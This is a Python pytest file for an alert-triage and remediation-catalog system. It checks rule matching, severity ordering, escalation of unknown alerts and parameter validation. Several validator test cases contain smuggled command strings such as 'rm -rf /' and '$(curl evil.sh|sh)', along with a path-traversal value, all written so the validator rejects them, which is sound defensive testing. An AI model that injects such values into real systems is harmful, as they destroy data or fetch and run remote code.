"""Rule triage (agents/rules.yaml) and the action catalog (playbooks/catalog.yaml)."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from agents.rules import RuleFileError, RuleReasoner
from models.alert import Alert, AlertmanagerAlert, Severity
from models.catalog import Autonomy, Catalog, CatalogError
from policies.catalog import load_catalog
from runtime.settings import PROJECT_ROOT

RULES_FILE = PROJECT_ROOT / "agents" / "rules.yaml"
PLAYBOOKS = PROJECT_ROOT / "playbooks"


@pytest.fixture(scope="module")
def reasoner() -> RuleReasoner:
    return RuleReasoner.load(RULES_FILE)


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return load_catalog(PLAYBOOKS)


def alert(labels: dict[str, str], summary: str = "") -> Alert:
    """An alert as the Alertmanager webhook delivers it."""
    return AlertmanagerAlert.model_validate(
        {
            "status": "firing",
            "labels": labels,
            "annotations": {"summary": summary} if summary else {},
            "startsAt": "2026-11-21T10:00:00Z",
            "endsAt": "0001-01-01T00:00:00Z",
        }
    ).to_alert()


# --- What the shipped rules decide -----------------------------------------------------------


@dataclass(frozen=True)
class Case:
    labels: dict[str, str]
    category: str
    rule: str | None
    severity: Severity
    action: str | None = None
    params: dict[str, Any] = field(default_factory=dict)


CASES = {
    "node-exporter-disk": Case(
        labels={
            "alertname": "NodeFilesystemSpaceFillingUp",
            "device": "/dev/nvme0n1p1",
            "fstype": "ext4",
            "instance": "10.0.3.17:9100",
            "job": "node",
            "mountpoint": "/var",
            "severity": "warning",
        },
        category="capacity",
        rule="disk-filling",
        severity=Severity.P3,
        action="clear_disk_space",
        params={"service": "10.0.3.17", "older_than_days": 7},
    ),
    "kube-state-metrics-crashloop": Case(
        labels={
            "alertname": "KubePodCrashLooping",
            "container": "checkout",
            "endpoint": "http",
            "instance": "10.42.0.15:8080",
            "job": "kube-state-metrics",
            "namespace": "payments",
            "pod": "checkout-7d9f8b6c5-x2k4q",
            "reason": "CrashLoopBackOff",
            "service": "kube-state-metrics",
            "severity": "warning",
            "uid": "3f9c2a4e-8d1b-4c57-9a0e-6b2f1d7c8e90",
        },
        category="availability",
        rule="service-down",
        severity=Severity.P3,
        action="restart_service",
        params={"service": "checkout"},
    ),
    "blackbox-probe": Case(
        labels={
            "alertname": "ProbeFailed",
            "instance": "https://checkout.example.com/healthz",
            "job": "blackbox-http",
            "service": "checkout",  # static_configs target label, as blackbox docs suggest
            "severity": "critical",
        },
        category="availability",
        rule="service-down",
        severity=Severity.P1,
        action="restart_service",
        params={"service": "checkout"},
    ),
    "instance-down": Case(
        labels={
            "alertname": "InstanceDown",
            "instance": "orders-2.internal:8080",
            "job": "orders",
            "severity": "critical",
        },
        category="availability",
        rule="service-down",
        severity=Severity.P1,
        action="restart_service",
        params={"service": "orders"},
    ),
    "high-error-rate": Case(
        labels={
            "alertname": "HighErrorRate",
            "namespace": "shop",
            "service": "cart",
            "severity": "critical",
        },
        category="errors",
        rule="high-error-rate",
        severity=Severity.P1,
        action="restart_service",
        params={"service": "cart"},
    ),
    "high-latency": Case(
        labels={
            "alertname": "HighLatency",
            "app": "search",
            "quantile": "0.99",
            "severity": "warning",
        },
        category="saturation",
        rule="saturation",
        severity=Severity.P3,
        action="scale_service",
        params={"service": "search", "replicas": 4},
    ),
    "watchdog": Case(
        labels={"alertname": "Watchdog", "prometheus": "monitoring/k8s", "severity": "none"},
        category="informational",
        rule="informational",
        severity=Severity.P4,
    ),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_known_alert(reasoner: RuleReasoner, catalog: Catalog, case: Case) -> None:
    incident = alert(case.labels, summary="something is wrong")
    result = reasoner.triage([incident])

    assert result.reasoner == "rules"
    assert result.category == case.category
    assert result.rule == case.rule
    assert result.severity is case.severity
    assert result.escalate_reason is None
    assert result.summary.startswith(f"{incident.name} on {incident.service}")
    if case.action is None:
        assert result.proposed is None
        return
    assert result.proposed is not None
    assert result.runbook is not None
    assert result.proposed.action == case.action
    assert result.proposed.params == case.params
    assert result.proposed.target == case.params["service"]
    catalog.validate_params(result.proposed.action, result.proposed.params)


def test_unknown_alert_is_escalated(reasoner: RuleReasoner) -> None:
    labels = {"alertname": "CertificateExpiringSoon", "job": "cert-exporter", "severity": "warning"}
    result = reasoner.triage([alert(labels, summary="TLS certificate expires in 6 days")])

    assert result.category == "unknown"
    assert result.rule is None
    assert result.proposed is None
    assert result.escalate_reason is not None
    assert "CertificateExpiringSoon" in result.escalate_reason
    assert result.confidence < 0.5
    assert result.services == ["cert-exporter"]
    assert "TLS certificate expires in 6 days" in result.summary


def test_exporter_is_never_the_target(reasoner: RuleReasoner) -> None:
    labels = {
        "alertname": "ProbeFailed",
        "instance": "https://checkout.example.com/healthz",
        "job": "blackbox",
        "severity": "critical",
    }
    result = reasoner.triage([alert(labels)])
    if result.proposed is not None:
        assert result.proposed.target != "blackbox"
        assert result.proposed.params.get("service") != "blackbox"


def test_worst_severity_wins_and_is_acted_on_first(reasoner: RuleReasoner) -> None:
    slow = alert({"alertname": "HighLatency", "app": "search", "severity": "warning"})
    failing = alert({"alertname": "HighErrorRate", "service": "cart", "severity": "critical"})
    info = alert({"alertname": "Watchdog", "severity": "none"})

    for alerts in ([slow, failing, info], [info, failing, slow]):
        result = reasoner.triage(alerts)
        assert result.severity is Severity.P1
        assert result.rule == "high-error-rate"
        assert result.proposed is not None
        assert result.proposed.action == "restart_service"
        assert result.proposed.target == "cart"
        assert result.services == ["Watchdog", "cart", "search"]
        assert "(+2 related alert(s))" in result.summary


def test_informational_alerts_alone_need_nothing(reasoner: RuleReasoner) -> None:
    result = reasoner.triage([alert({"alertname": "Watchdog"}), alert({"alertname": "InfoInhibitor"})])
    assert result.category == "informational"
    assert result.proposed is None
    assert result.escalate_reason is None


def test_one_unknown_alert_among_informational_ones_escalates(reasoner: RuleReasoner) -> None:
    result = reasoner.triage([alert({"alertname": "Watchdog"}), alert({"alertname": "KafkaConsumerLagHigh"})])
    assert result.category == "unknown"
    assert result.escalate_reason is not None
    assert "KafkaConsumerLagHigh" in result.escalate_reason
    assert "Watchdog" not in result.escalate_reason


def test_alertname_must_match_in_full(reasoner: RuleReasoner) -> None:
    result = reasoner.triage([alert({"alertname": "HighErrorRateBudget", "service": "cart"})])
    assert result.category == "unknown"


def test_no_alerts_is_an_error(reasoner: RuleReasoner) -> None:
    with pytest.raises(ValueError, match="at least one alert"):
        reasoner.triage([])


def test_every_rule_action_is_a_valid_catalog_call(reasoner: RuleReasoner, catalog: Catalog) -> None:
    """Each alertname a rule lists reaches that rule, and its action passes the catalog."""
    checked = 0
    for rule in reasoner.rules:
        # Rules that also match other labels get the first value each of those allows.
        others = {k: v.split("|")[0] for k, v in rule.match.items() if k != "alertname"}
        for name in rule.match["alertname"].split("|"):
            result = reasoner.triage([alert({"alertname": name, "service": "checkout", **others})])
            assert result.rule == rule.name, f"{name} is shadowed by rule {result.rule}"
            if rule.action is None:
                assert result.proposed is None
                continue
            assert result.proposed is not None
            spec = catalog.validate_params(result.proposed.action, result.proposed.params)
            assert spec.name == rule.action.name
            checked += 1
    assert checked >= 10


# --- Rules files that do not load ------------------------------------------------------------

GOOD_RULE = """
  - name: service-down
    match: {alertname: "InstanceDown"}
    category: availability
    confidence: 0.9
"""


def write_rules(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    ("body", "rule", "detail"),
    [
        (
            '  - name: broken-regex\n    match: {alertname: "High(ErrorRate"}\n'
            "    category: errors\n    confidence: 0.5\n",
            "broken-regex",
            "bad regular expression",
        ),
        (
            "  - name: no-category\n    match: {alertname: X}\n    confidence: 0.5\n",
            "no-category",
            "category",
        ),
        (
            "  - name: too-sure\n    match: {alertname: X}\n    category: c\n    confidence: 1.5\n",
            "too-sure",
            "confidence",
        ),
        (
            "  - name: matches-everything\n    match: {}\n    category: c\n    confidence: 0.5\n",
            "matches-everything",
            "match",
        ),
        (
            "  - name: nameless-action\n    match: {alertname: X}\n    category: c\n"
            "    confidence: 0.5\n    action: {params: {service: x}}\n",
            "nameless-action",
            "action.name",
        ),
        (
            "  - match: {alertname: X}\n    category: c\n    confidence: 0.5\n",
            "#1",  # no name: the rule's position in the list
            "name",
        ),
    ],
    ids=[
        "bad-regex",
        "missing-category",
        "confidence-range",
        "empty-match",
        "action-name",
        "no-name",
    ],
)
def test_bad_rule_names_file_and_rule(tmp_path: Path, body: str, rule: str, detail: str) -> None:
    path = write_rules(tmp_path, "rules:" + GOOD_RULE + body)
    with pytest.raises(RuleFileError) as exc:
        RuleReasoner.load(path)
    message = str(exc.value)
    assert str(path) in message
    assert f"rule {rule}" in message
    assert detail in message


@pytest.mark.parametrize(
    "text",
    [
        "rules:\n  - name: x\n   match: {alertname: [",  # invalid YAML
        "- name: x\n",  # a list, not a mapping
        "rules: {name: x}\n",  # rules not a list
        "",  # empty file
    ],
    ids=["invalid-yaml", "not-a-mapping", "rules-not-a-list", "empty"],
)
def test_bad_rules_file_names_the_file(tmp_path: Path, text: str) -> None:
    path = write_rules(tmp_path, text)
    with pytest.raises(RuleFileError, match=str(path)):
        RuleReasoner.load(path)


def test_missing_rules_file(tmp_path: Path) -> None:
    with pytest.raises(RuleFileError, match=r"absent\.yaml"):
        RuleReasoner.load(tmp_path / "absent.yaml")


def test_first_matching_rule_wins_and_fills_placeholders(tmp_path: Path) -> None:
    path = write_rules(
        tmp_path,
        """
rules:
  - name: crashloop-by-container
    match: {alertname: KubePodCrashLooping, namespace: "payments|shop"}
    category: availability
    confidence: 0.8
    action:
      name: restart_service
      params: {service: "{label:container}", reason: "{label:reason} in {service}"}
  - name: crashloop-anywhere
    match: {alertname: "Kube.*"}
    category: availability
    confidence: 0.5
""",
    )
    reasoner = RuleReasoner.load(path)
    labels = {
        "alertname": "KubePodCrashLooping",
        "namespace": "payments",
        "container": "checkout",
        "reason": "CrashLoopBackOff",
        "app": "checkout-v2",
    }

    result = reasoner.triage([alert(labels)])
    assert result.rule == "crashloop-by-container"
    assert result.proposed is not None
    assert result.proposed.params == {
        "service": "checkout",
        "reason": "CrashLoopBackOff in checkout-v2",
    }

    elsewhere = reasoner.triage([alert({**labels, "namespace": "kube-system"})])
    assert elsewhere.rule == "crashloop-anywhere"
    assert elsewhere.proposed is None


# --- The action catalog ----------------------------------------------------------------------


def test_shipped_catalog(catalog: Catalog) -> None:
    assert set(catalog.actions) >= {"restart_service", "scale_service", "clear_disk_space"}
    for spec in catalog.actions.values():
        assert (PLAYBOOKS / spec.playbook).is_file()
        assert spec.vault_role.startswith("firebreak-")
        # Nothing runs on its own until an operator says so.
        assert spec.autonomy is not Autonomy.AUTONOMOUS


@pytest.mark.parametrize(
    ("action", "params", "named"),
    [
        ("scale_service", {"service": "search", "replicas": 0}, "replicas"),
        ("scale_service", {"service": "search", "replicas": 100}, "replicas"),
        ("scale_service", {"service": "search", "replicas": "4"}, "replicas"),
        ("scale_service", {"service": "search"}, "replicas"),
        ("restart_service", {"service": "api; rm -rf /"}, "service"),
        ("restart_service", {"service": "$(curl evil.sh|sh)"}, "service"),
        ("restart_service", {"service": "../../etc"}, "service"),
        ("restart_service", {"service": "Checkout"}, "service"),
        ("restart_service", {"service": "a" * 64}, "service"),
        ("restart_service", {}, "service"),
        ("restart_service", {"service": "cart", "force": True}, "force"),
        ("clear_disk_space", {"service": "node", "older_than_days": 0}, "older_than_days"),
    ],
)
def test_invalid_params_name_the_param(
    catalog: Catalog, action: str, params: dict[str, Any], named: str
) -> None:
    with pytest.raises(CatalogError) as exc:
        catalog.validate_params(action, params)
    message = str(exc.value)
    assert action in message
    assert named in message


def test_valid_params_return_the_spec(catalog: Catalog) -> None:
    spec = catalog.validate_params("scale_service", {"service": "search", "replicas": 20})
    assert spec.name == "scale_service"
    assert spec.playbook == "scale_service.yml"
    assert spec.timeout_seconds > 0


def test_unknown_action_lists_the_catalog(catalog: Catalog) -> None:
    with pytest.raises(CatalogError, match="unknown action 'drop_database'") as exc:
        catalog.validate_params("drop_database", {})
    assert "restart_service" in str(exc.value)


def test_catalog_with_a_missing_playbook(tmp_path: Path) -> None:
    (tmp_path / "catalog.yaml").write_text(
        """
actions:
  restart_service:
    description: restart
    playbook: nowhere.yml
    risk: medium
    timeout_seconds: 60
    vault_role: firebreak-restart-service
    params_schema: {type: object, additionalProperties: false}
"""
    )
    with pytest.raises(CatalogError, match=r"restart_service.*nowhere\.yml"):
        load_catalog(tmp_path)


def test_catalog_with_a_bad_schema(tmp_path: Path) -> None:
    (tmp_path / "run.yml").write_text("- hosts: localhost\n")
    (tmp_path / "catalog.yaml").write_text(
        """
actions:
  scale_service:
    description: scale
    playbook: run.yml
    risk: medium
    timeout_seconds: 60
    vault_role: firebreak-scale-service
    params_schema: {type: objekt}
"""
    )
    with pytest.raises(CatalogError, match="scale_service"):
        load_catalog(tmp_path)
